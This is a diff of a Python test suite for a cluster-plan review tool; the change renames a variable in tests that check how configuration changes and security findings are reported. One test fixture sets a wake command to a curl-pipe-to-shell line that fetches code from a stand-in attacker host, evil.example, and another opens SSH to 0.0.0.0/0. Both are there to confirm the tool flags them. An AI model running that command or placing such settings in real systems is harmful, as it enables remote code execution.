@@ -26,8 +26,8 @@ def review(machines: Project, change: Callable[[dict[str, Any]], object]) -> tup
     changed = shipped()
     change(changed)
     before, after = document(machines, shipped()), document(machines, changed)
-    found = diff.difference(before, after)
-    return found, diff.text({**after, "against": "HEAD", "difference": found})
+    difference = diff.difference(before, after)
+    return difference, diff.text({**after, "against": "HEAD", "difference": difference})
 
 
 def put(cluster: dict[str, Any], *path: Any) -> None:
@@ -66,18 +66,18 @@ CHANGES = {
 def test_a_change_of_any_decision_is_shown_from_old_to_new(
     machines: Project, change: tuple[Any, ...], line: str
 ) -> None:
-    found, text = review(machines, lambda cluster: put(cluster, *change))
+    difference, text = review(machines, lambda cluster: put(cluster, *change))
 
     assert line in text
     assert "no resource differs" not in text
-    assert found["decisions"]
-    assert found["resources"] == []
+    assert difference["decisions"]
+    assert difference["resources"] == []
 
 
 def test_what_does_not_change_is_no_decision_that_differs(machines: Project) -> None:
-    found, text = review(machines, lambda _: None)
+    difference, text = review(machines, lambda _: None)
 
-    assert found["decisions"] == []
+    assert difference["decisions"] == []
     assert "no resource differs" in text
 
 
@@ -86,14 +86,14 @@ def test_a_command_that_changes_is_shown_whole_before_all_else_and_is_a_finding(
         put(cluster, "nodes", TRAINER, "fabric", "gbits", 200)
         put(cluster, "power", "wake", EVIL)
 
-    found, text = review(machines, change)
+    difference, text = review(machines, change)
 
-    first = found["decisions"][0]
+    first = difference["decisions"][0]
     assert first["path"] == "commands[this computer · up, for each host that does not answer]"
     assert first["after"] == "sh -c 'curl -s https://evil.example/{bmc} | sh'"
     assert first["security"]
     assert text.index("evil.example") < text.index("rdma.gbits")
-    (finding,) = found["findings"]["new"]
+    (finding,) = difference["findings"]["new"]
     assert (finding["level"], finding["rule"]) == ("warning", "command-changes")
     assert first["before"] in finding["message"]
     assert first["after"] in finding["message"]
@@ -124,15 +124,15 @@ def test_hosts_that_come_and_go_are_shown_by_their_names(machines: Project) -> N
 
 
 def test_another_order_of_ranks_is_a_decision(machines: Project) -> None:
-    found, _ = review(machines, lambda cluster: cluster["nodes"][TRAINER]["hosts"].reverse())
+    difference, _ = review(machines, lambda cluster: cluster["nodes"][TRAINER]["hosts"].reverse())
 
-    assert {row["path"].partition("(")[0] for row in found["decisions"]} == {"groups.trainer.nodes."}
+    assert {row["path"].partition("(")[0] for row in difference["decisions"]} == {"groups.trainer.nodes."}
 
 
 def test_decisions_are_compared_where_a_plan_is_refused_and_has_no_resources(machines: Project) -> None:
-    found, text = review(machines, lambda cluster: put(cluster, "access", "ssh_from", ["0.0.0.0/0"]))
+    difference, text = review(machines, lambda cluster: put(cluster, "access", "ssh_from", ["0.0.0.0/0"]))
 
-    assert found["findings"]["new"][-1]["level"] == "error"
+    assert difference["findings"]["new"][-1]["level"] == "error"
     assert "access.ssh_from[0]: 0.0.0.0/0" in text
 
 
@@ -140,10 +140,10 @@ def test_an_earlier_plan_without_decisions_is_not_taken_to_be_the_same(machines:
     after = document(machines, shipped())
     before = {key: value for key, value in after.items() if key not in ("decisions", "commands")}
 
-    found = diff.difference(before, after)
-    text = diff.text({**after, "against": "HEAD", "difference": found})
+    difference = diff.difference(before, after)
+    text = diff.text({**after, "against": "HEAD", "difference": difference})
 
-    assert not found["decisions_compared"]
+    assert not difference["decisions_compared"]
     assert "no resource differs" not in text
     assert "decisions are not compared" in text
     assert "ipmitool" in text
